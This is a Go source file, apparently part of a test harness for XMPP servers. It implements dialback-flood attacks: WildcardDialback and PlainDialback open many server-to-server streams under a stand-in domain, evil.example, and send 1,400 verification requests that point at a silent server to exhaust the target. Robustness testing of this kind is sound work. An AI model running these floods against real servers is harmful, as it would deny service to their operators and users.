// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"context"
	"fmt"
	"io"
	"strings"
	"time"
)

// namesToVerify is how many names an attack by dialback has verified.
const namesToVerify = 1400

// WildcardDialback opens streams with a wildcard certificate of a trusted CA and has the server verify names below it by
// dialback (XEP-0220), for each of which the server opens a stream to a server that says nothing.
func WildcardDialback(streams int) Attack {
	return Attack{
		Name: fmt.Sprintf("dialback of names below a wildcard, %d streams", streams), Limit: 40 * time.Second,
		Do: func(ctx context.Context, target Target) (string, error) {
			const domain = "evil.example"
			certificate := target.Issue(domain, "*."+domain)
			return dialback(ctx, target, domain, streams, func(s *stream) error {
				return s.starttls(ctx, serverHeader(domain, target.Domain), &certificate)
			})
		},
	}
}

// PlainDialback does so without a certificate, with sub-domains of a partner whose policy allows dialback without TLS.
func PlainDialback(streams int) Attack {
	return Attack{
		Name: fmt.Sprintf("plaintext dialback of sub-domains, %d streams", streams), Limit: 40 * time.Second,
		Do: func(ctx context.Context, target Target) (string, error) {
			return dialback(ctx, target, lax, streams, func(s *stream) error {
				return s.exchange(serverHeader(lax, target.Domain), "</stream:features>")
			})
		},
	}
}

func dialback(ctx context.Context, target Target, domain string, count int, open func(*stream) error) (string, error) {
	nowhere, err := silent(ctx, target)
	if err != nil {
		return "", err
	}
	names := []string{domain}
	for i := range namesToVerify {
		names = append(names, fmt.Sprintf("n%d.%s", i, domain))
	}
	if err := target.Names.Point(nowhere, names...); err != nil {
		return "", err
	}
	var streams []*stream
	for range count {
		s, err := dial(ctx, target.S2S)
		if err != nil {
			return "", err
		}
		defer func() { _ = s.Close() }()
		if err := open(s); err != nil {
			return "", fmt.Errorf("opening a stream for dialback: %w", err)
		}
		go func() { _, _ = io.Copy(io.Discard, s.Conn) }()
		streams = append(streams, s)
	}
	sent := sendResults(ctx, target.Domain, names[1:], streams)
	<-until(ctx, 5*time.Second) // for what has been asked for to take effect
	return fmt.Sprintf("%d of %d names sent", sent, namesToVerify), nil
}

// sendResults has names verified, on all streams in turn, until the server has had enough. It returns how many were sent.
func sendResults(ctx context.Context, to string, names []string, streams []*stream) (sent int) {
	const batch = 20
	for len(names) > 0 && ctx.Err() == nil {
		open := 0
		for _, s := range streams {
			var b strings.Builder
			n := min(batch, len(names))
			for _, name := range names[:n] {
				fmt.Fprintf(&b, "<db:result from='%s' to='%s'>key</db:result>", name, to)
			}
			if names = names[n:]; s.send("%s", b.String()) == nil {
				open, sent = open+1, sent+n
			}
		}
		if open == 0 {
			break
		}
	}
	return sent
}

// until returns a channel that is closed after the given time, or when ctx is done.
func until(ctx context.Context, pause time.Duration) <-chan struct{} {
	ctx, cancel := context.WithTimeout(ctx, pause)
	context.AfterFunc(ctx, cancel)
	return ctx.Done()
}
